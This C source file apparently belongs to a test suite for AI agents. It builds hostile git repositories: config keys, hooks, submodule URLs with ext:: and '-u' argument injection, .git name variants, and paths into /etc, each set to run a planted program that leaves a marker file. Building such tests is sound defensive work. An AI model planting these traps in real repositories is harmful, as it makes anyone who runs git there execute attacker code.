/* SPDX-License-Identifier: Apache-2.0 */
/*
 * git - a repository that makes whoever uses git on it run something, or take something from
 * elsewhere. What runs leaves a mark that the test looks for.
 */
#include "hostile.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define PROGRAM "/workspace/.git/program"
#define MARK    "hostile-was-run" /* the tests look for this name everywhere */

static void
plant_program(void)
{
	put(PROGRAM, "#!/bin/sh\ntouch /tmp/" MARK " /workspace/" MARK " /home/agent/" MARK
		     " 2>/dev/null\ncat 2>/dev/null\nexit 0\n");
}

static void
git_config(void)
{
	plant_program();
	put("/workspace/.git/config",
		"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = " PROGRAM
		"\n\thooksPath = /workspace/.git/hooks\n\tsshCommand = " PROGRAM
		"\n\tpager = " PROGRAM "\n\teditor = " PROGRAM "\n\taskPass = " PROGRAM
		"\n\tattributesFile = /workspace/.git/attributes\n\tgitProxy = " PROGRAM
		"\n[diff]\n\texternal = " PROGRAM "\n[diff \"x\"]\n\ttextconv = " PROGRAM
		"\n\tcommand = " PROGRAM "\n[filter \"x\"]\n\tclean = " PROGRAM
		"\n\tsmudge = " PROGRAM "\n\tprocess = " PROGRAM
		"\n\trequired = true\n[merge \"x\"]\n\tdriver = " PROGRAM
		"\n[gpg]\n\tprogram = " PROGRAM
		"\n[commit]\n\tgpgSign = true\n[credential]\n\thelper = "
		"!" PROGRAM "\n[uploadpack]\n\tpackObjectsHook = " PROGRAM "\n[url \"ext::" PROGRAM
		" %%S\"]\n\tinsteadOf = http\n[alias]\n\tadd = !" PROGRAM
		"\n\tcommit-tree = !" PROGRAM "\n[include]\n\tpath = /etc/passwd\n\tpath = "
		"/workspace/.git/more\n");
	put("/workspace/.git/more", "[core]\n\tworktree = /etc\n");
	put("/workspace/.git/attributes", "* filter=x diff=x merge=x\n");
	put(".gitattributes", "* filter=x diff=x merge=x\n");
	say("each setting that runs something");
}

static void
git_hooks(void)
{
	static const char *const hooks[] = { "applypatch-msg", "commit-msg", "fsmonitor-watchman",
		"post-checkout", "post-commit", "post-index-change", "post-merge", "post-rewrite",
		"post-update", "pre-applypatch", "pre-commit", "pre-push", "pre-rebase",
		"pre-receive", "prepare-commit-msg", "reference-transaction", "update" };
	char path[128];

	plant_program();
	(void)mkdir("/workspace/.git/hooks", 0755);
	for (size_t i = 0; i < sizeof(hooks) / sizeof(hooks[0]); i++) {
		(void)snprintf(path, sizeof(path), "/workspace/.git/hooks/%s", hooks[i]);
		(void)unlink(path);
		(void)symlink(PROGRAM, path);
	}
	say("%zu hooks", sizeof(hooks) / sizeof(hooks[0]));
}

/* .git is a file that leads elsewhere. */
static void
git_redirect(void)
{
	(void)rename("/workspace/.git", "/workspace/.git-was");
	put("/workspace/.git", "gitdir: /home/agent/other\n");
	shell("git init -q --bare /home/agent/other");
	shell("mv /workspace/.git-was /tmp/");
	say(".git leads to another repository");
}

static void
git_gone(void)
{
	shell("rm -rf /workspace/.git");
	(void)symlink("/etc", "/workspace/.git");
	say(".git leads to /etc");
}

static void
git_alternates(void)
{
	(void)mkdir("/workspace/.git/objects/info", 0755);
	put("/workspace/.git/objects/info/alternates", "/workspace/../state/mirrors\n/etc\n");
	put("/workspace/.git/info/grafts", "0000000000000000000000000000000000000000\n");
	put("/workspace/.git/commondir", "/etc\n");
	put("/workspace/.git/shallow", "x\n");
	shell("rm -rf /workspace/.git/refs/heads; ln -s /etc /workspace/.git/refs/heads");
	say("objects of others");
}

static void
git_locks(void)
{
	put("/workspace/.git/index.lock", "\n");
	put("/workspace/.git/HEAD.lock", "\n");
	put("/workspace/.git/config.lock", "\n");
	put("/workspace/.git/packed-refs.lock", "\n");
	shell("head -c 300000 /dev/urandom | od -An -v -tx1 -w20 | tr -d ' ' | awk "
	      "'{ print $1 \" refs/heads/x\" NR }' >/workspace/.git/packed-refs");
	put("/workspace/.git/index", "DIRC\x7f\x7f\x7f\x7f");
	put("/workspace/.git/HEAD", "ref: refs/heads/../../../../etc/passwd\n");
	say("locks, and what is none");
}

static void
git_modules(void)
{
	put(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::" PROGRAM
			   "\n[submodule \"-u" PROGRAM "\"]\n\tpath = -u" PROGRAM
			   "\n\turl = -u" PROGRAM "\n[submodule \"../../hooks\"]\n\tpath = "
			   "../../x\n\turl = ../../../x\n\tupdate = !" PROGRAM "\n");
	say("submodules from anywhere");
}

/* Every way to say .git that some filesystem takes for it. */
static void
git_names(void)
{
	static const char *const dirs[] = { ".GIT", ".Git", "git~1", "GIT~1", ".git ", ".git.",
		".g\xe2\x80\x8cit", ".git::$INDEX_ALLOCATION", "sub/.git", "sub/.GIT",
		"sub/git~1" };
	char path[256];

	(void)mkdir("sub", 0755);
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		(void)mkdir(dirs[i], 0755);
		(void)snprintf(path, sizeof(path), "%s/config", dirs[i]);
		put(path, "[core]\n\tfsmonitor = touch /tmp/" MARK "\n");
	}
	say("%zu ways to write .git", sizeof(dirs) / sizeof(dirs[0]));
}

static void
git_nested(void)
{
	shell("mkdir nested && cd nested && git init -q && echo x >file && git add file && "
	      "git -c user.name=x -c user.email=x@x commit -qm x && cp ../.git/config "
	      ".git/config");
	say("a repository in the repository");
}

static void
git_worktrees(void)
{
	shell("git worktree add -q --detach /home/agent/tree; git worktree add -q --detach "
	      "inner; mkdir -p .git/worktrees/x && echo /etc >.git/worktrees/x/gitdir; echo "
	      "/etc >.git/worktrees/x/commondir");
	say("trees elsewhere");
}

/* An encoding that grows, words that expand, filters by name. */
static void
git_attributes(void)
{
	put(".gitattributes", "* text working-tree-encoding=UTF-16 ident filter=lfs\n*.md "
			      "export-subst filter=x merge=x diff=x\n[attr]x -diff\n");
	put("ident.md", "$Id$ $Format:%%H%%n%%an$\n");
	say("attributes");
}

/* It commits, on a branch with another history, and points everything there. */
static void
git_history(void)
{
	shell("git checkout -q --orphan other && git rm -q -r --cached . && echo x >x && git "
	      "add x && git -c user.name=alice -c user.email=alice@example.com commit -qm "
	      "'not yours' && git update-ref refs/heads/main HEAD; git tag -f v1; git "
	      "replace -f HEAD~0 HEAD~0 2>/dev/null; git checkout -q -f main -- . ");
	shell("printf '#!/bin/sh\\n' >test.sh; git checkout -q HEAD -- 2>/dev/null; true");
	say("another history");
}

const struct attack ATTACKS_GIT[] = {
	{ "git-config", git_config, "done" },
	{ "git-hooks", git_hooks, "done" },
	{ "git-redirect", git_redirect, "done" },
	{ "git-gone", git_gone, "done" },
	{ "git-alternates", git_alternates, "done" },
	{ "git-locks", git_locks, "done" },
	{ "git-modules", git_modules, "done|refused" },
	{ "git-names", git_names, "refused" },
	{ "git-nested", git_nested, "done" },
	{ "git-worktrees", git_worktrees, "done" },
	{ "git-attributes", git_attributes, "done|refused" },
	{ "git-history", git_history, "done|red|refused" },
	{ 0 },
};
